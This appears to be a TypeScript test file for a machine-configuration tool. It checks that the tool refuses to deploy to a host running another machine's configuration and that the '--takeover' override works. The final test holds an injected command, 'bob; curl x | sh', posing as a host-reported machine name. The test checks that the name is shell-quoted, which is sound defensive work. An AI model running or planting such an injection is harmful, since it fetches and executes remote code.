import { printManifest } from "@troupe/linux";
import { formatDiagnostic } from "@troupe/modules";
import { describe, expect, test } from "vitest";
import { gzipSync } from "node:zlib";
import type { DesiredNixos } from "../platforms/nixos/contributions.ts";
import type { ExecRequest, Transport } from "../remote/transport.ts";
import { apply } from "./apply.ts";
import type { DesiredMachine } from "./model/plan.ts";
import { plan } from "./plan.ts";
import { rollback } from "./rollback.ts";
import { status } from "./status.ts";
import { desire, labTarget } from "./testing/lab-machines.ts";

const web = labTarget("web", { user: "root", host: "192.0.2.1" });
const config = { environment: { etc: { motd: { text: "hello\n" } } } };
const store = desire(labTarget("store"), config);
const pack = (text: string): string => gzipSync(text).toString("base64");

const contributions = { modules: {}, provenance: { version: 1, entries: {}, contributors: {} } } as const;
const onNixos = { ...web, class: "nixos" };
const nixos: DesiredNixos = { target: onNixos, flake: "/nowhere", contributions };
const record = { version: 1, machine: "store", inputs: {}, ...contributions };

/** For each class a desired machine, and the answer of a host that runs the configuration of machine store. */
const hosts: readonly [name: string, desired: DesiredMachine, state: readonly string[]][] = [
  [
    "linux",
    desire(web, config),
    [
      "machine\tstore",
      `current\t${store.generation.id}`,
      `manifest\t${pack(printManifest(store.generation.manifest))}`,
      "history\t1\t00",
      `history\t2\t${store.generation.id}`,
    ],
  ],
  ["nixos", nixos, ["current\tabc-nixos-system", `record\t${pack(JSON.stringify(record))}`]],
];

describe.each(hosts)("a host of class %s that runs another machine's configuration", (_, desired, state) => {
  const asked: ExecRequest[] = [];
  const transport: Transport = {
    exec: (_, request) => {
      asked.push(request);
      const stdout = ["troupe-agent\t1", "system\tx\t1\tX", "systemd\t252", ...state, "end\tok", ""].join("\n");
      return Promise.resolve({ code: 0, stdout, stderr: "", timedOut: false });
    },
    close: () => Promise.resolve(),
  };
  const verbs = () => new Set(asked.splice(0).map(({ command }) => / troupe (\w+)/.exec(command)?.[1]));
  const problem = "TRP5230";

  test("has a plan that is refused, a status that says so, and no rollback; nothing is sent", async () => {
    const made = await plan([desired], { transport });
    expect(made.machines[0]).toMatchObject({ status: "blocked", diagnostics: [{ code: problem }] });
    expect(made.machines[0]!.diagnostics.map(formatDiagnostic).join()).toBe(
      `TRP5230 The host at the address of web (root@192.0.2.1) runs the configuration of machine "store". Nothing was changed.
  hint: Correct the addresses. If this host is to become web on purpose, after a rename for example: troupe apply --takeover store.`,
    );
    expect(await apply(made, [desired], { transport })).toMatchObject([{ outcome: "refused" }]);
    expect(await status([desired.target], { transport })).toMatchObject([{ diagnostics: [{ code: problem }] }]);
    expect(await rollback([desired.target], { transport })).toMatchObject([
      { outcome: "refused", diagnostics: [{ code: problem }] },
    ]);
    expect([...verbs()].filter((verb) => verb !== "probe" && verb !== "fetch")).toEqual([]);
  });

  test("becomes another machine if the operator names the one that it is", async () => {
    const other = await plan([desired], { transport, takeover: ["other"] });
    expect(other.machines[0]!.diagnostics.map(({ code }) => code)).toContain(problem);
    const taken = await plan([desired], { transport, takeover: ["store"] });
    expect(taken.machines[0]!.diagnostics.map(({ code }) => code)).not.toContain(problem);
  });
});

test("a taken host is named in the plan", async () => {
  const [, desired, state] = hosts[0]!;
  const stdout = ["troupe-agent\t1", ...state, "end\tok", ""].join("\n");
  const transport = {
    exec: () => Promise.resolve({ code: 0, stdout, stderr: "", timedOut: false }),
    close: () => Promise.resolve(),
  };
  const { machines } = await plan([desired], { transport, takeover: ["store"] });
  expect(machines[0]).toMatchObject({ status: "change", runs: "store", diagnostics: [] });
});

test("a name in the advice is one word for a shell, whatever the host says", async () => {
  const [, desired] = hosts[0]!;
  const stdout = ["troupe-agent\t1", "machine\tbob; curl x | sh", "end\tok", ""].join("\n");
  const transport = {
    exec: () => Promise.resolve({ code: 0, stdout, stderr: "", timedOut: false }),
    close: () => Promise.resolve(),
  };
  const { machines } = await plan([desired], { transport });
  const [other] = machines[0]!.diagnostics;
  expect(other).toMatchObject({
    code: "TRP5230",
    hint: expect.stringMatching(/ troupe apply --takeover 'bob; curl x \| sh'\.$/),
  });
});
